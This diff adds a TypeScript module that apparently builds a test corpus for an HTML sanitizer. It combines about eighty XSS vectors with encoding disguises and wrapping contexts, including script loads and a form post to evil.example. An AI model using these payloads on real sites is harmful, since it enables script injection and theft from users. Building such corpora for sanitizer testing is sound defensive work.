@@ -1,0 +1,121 @@
+// Ways in which markup is made to run something or to ask for something. The kinds are those of public lists (OWASP's "XSS Filter
+// Evasion Cheat Sheet", the collection html5sec.org, the mutations that DOMPurify's tests name); they are written down anew here.
+
+const run = 'alert(1)';
+const elsewhere = 'https://evil.example';
+
+/** One of each kind. */
+const kinds: readonly string[] = [
+  `<script>${run}</script>`,
+  `<script src="${elsewhere}/x.js"></script>`,
+  `<script/src="${elsewhere}/x.js"></script>`,
+  `<script type="module">import("${elsewhere}")</script>`,
+  `<svg><script>${run}</script></svg>`,
+  `<svg onload="${run}"></svg>`,
+  `<svg><animate onbegin="${run}" attributeName="x" dur="1s"></svg>`,
+  `<svg><set attributeName="href" to="javascript:${run}"/><a><text>x</text></a></svg>`,
+  `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>${run}</script></svg>#x"/></svg>`,
+  `<svg><foreignObject><iframe srcdoc="<script>${run}</script>"></iframe></foreignObject></svg>`,
+  `<img src=x onerror="${run}">`,
+  `<img src="${elsewhere}/a.png" alt="a">`,
+  `<img srcset="${elsewhere}/a.png 1x" alt="a">`,
+  `<img src="data:text/html,<script>${run}</script>" alt="a">`,
+  `<img src="media/a.png" alt="a" onload="${run}">`,
+  `<img lowsrc="javascript:${run}" dynsrc="javascript:${run}">`,
+  `<image src=x onerror="${run}">`,
+  `<body onload="${run}">`,
+  `<body background="javascript:${run}">`,
+  `<input autofocus onfocus="${run}">`,
+  `<input type="image" src="${elsewhere}/a.png">`,
+  `<button formaction="javascript:${run}">a</button>`,
+  `<form action="${elsewhere}"><input name="pin"></form>`,
+  `<select autofocus onfocus="${run}"><option>a</option></select>`,
+  `<textarea autofocus onfocus="${run}"></textarea>`,
+  `<keygen autofocus onfocus="${run}">`,
+  `<video src=x onerror="${run}"></video>`,
+  `<video poster="javascript:${run}"></video>`,
+  `<audio src="${elsewhere}/a.mp3" autoplay></audio>`,
+  `<video><source onerror="${run}"></video>`,
+  `<iframe src="javascript:${run}"></iframe>`,
+  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
+  `<frameset onload="${run}"><frame src="${elsewhere}"></frameset>`,
+  `<object data="javascript:${run}"></object>`,
+  `<object type="text/html" data="${elsewhere}"></object>`,
+  `<embed src="${elsewhere}/x.swf">`,
+  `<applet code="x" codebase="${elsewhere}"></applet>`,
+  `<a href="javascript:${run}">a</a>`,
+  `<a href="JaVaScRiPt:${run}">a</a>`,
+  `<a href="java\tscript:${run}">a</a>`,
+  `<a href="java\nscript:${run}">a</a>`,
+  `<a href="\u0001javascript:${run}">a</a>`,
+  `<a href="&#106;&#97;vascript:${run}">a</a>`,
+  `<a href="&#x6A;avascript&colon;${run}">a</a>`,
+  `<a href="&Tab;javascript:${run}">a</a>`,
+  `<a href="vbscript:msgbox(1)">a</a>`,
+  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>`,
+  `<a href="//evil.example">a</a>`,
+  `<a href="/\\evil.example">a</a>`,
+  `<a href="\\\\evil.example">a</a>`,
+  `<a href="http://evil.example">a</a>`,
+  `<a href="blob:${elsewhere}/x">a</a>`,
+  `<a href="/about" ping="${elsewhere}">a</a>`,
+  `<a href="/about" onclick="${run}">a</a>`,
+  `<a href="/about" target="_blank" rel="opener">a</a>`,
+  `<p style="background:url(${elsewhere})">a</p>`,
+  `<p style="behavior:url(#x);-moz-binding:url(${elsewhere}#x)">a</p>`,
+  `<p onmouseover="${run}">a</p>`,
+  `<p contenteditable onpaste="${run}">a</p>`,
+  `<p id="app" class="btn" name="cookie">a</p>`,
+  `<style>@import "${elsewhere}/x.css";</style>`,
+  `<style>p{background:url(${elsewhere})}</style>`,
+  `<link rel="stylesheet" href="${elsewhere}/x.css">`,
+  `<link rel="prefetch" href="${elsewhere}">`,
+  `<meta http-equiv="refresh" content="0;url=${elsewhere}">`,
+  `<base href="${elsewhere}/">`,
+  `<table background="${elsewhere}/a.png"><tr><td background="${elsewhere}">a</td></tr></table>`,
+  `<marquee onstart="${run}">a</marquee>`,
+  `<details open ontoggle="${run}">a</details>`,
+  `<isindex action="javascript:${run}">`,
+  `<math><mi xlink:href="javascript:${run}">a</mi></math>`,
+  `<math><mtext><table><mglyph><style><img src=x onerror="${run}"></style></table></mtext></math>`,
+  `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
+  `<template><img src=x onerror="${run}"></template>`,
+  `<xmp><img src=x onerror="${run}"></xmp>`,
+  `<plaintext><img src=x onerror="${run}">`,
+  `<title><img src=x onerror="${run}"></title>`,
+  `<![CDATA[<img src=x onerror="${run}">]]>`,
+  `<?xml-stylesheet href="javascript:${run}"?>`,
+  `<!--[if IE]><script>${run}</script><![endif]-->`,
+  `<x-custom onclick="${run}" autofocus tabindex=1>a</x-custom>`,
+];
+
+type Disguise = (html: string) => string;
+
+/** How each is disguised. */
+const disguises: readonly Disguise[] = [
+  (html) => html,
+  (html) => html.toUpperCase(),
+  (html) => html.replace(/<([a-z])/g, (_, letter: string) => `<${letter.toUpperCase()}`),
+  (html) => html.replace(/<(\w+) /g, '<$1/'),
+  (html) => html.replace(/<(\w+) /g, '<$1\n\t'),
+  (html) => html.replace(/<(\w+) /g, '<$1\u000c'),
+  (html) => html.replaceAll('="', '=\'"\'"'),
+  (html) => html.replaceAll('"', ''),
+  (html) => `<${html}`,
+  (html) => html.replaceAll('>', ''),
+  (html) => html.replaceAll('<', '\u0000<'),
+];
+
+/** What stands around it. */
+const surroundings: readonly Disguise[] = [
+  (html) => html,
+  (html) => `<p>before ${html} after</p>`,
+  (html) => `<p title="${html}">a</p>`,
+  (html) => `<table><tr><td>${html}</td></tr></table>`,
+  (html) => `<!-- ${html} -->${html}`,
+  (html) => `<ul><li>${html}`,
+];
+
+/** Over five thousand of them: each kind in each disguise and surrounding. */
+export const hostileHtml = (): string[] =>
+  kinds.flatMap((kind) => disguises.flatMap((disguise) => surroundings.map((surround) => surround(disguise(kind)))));
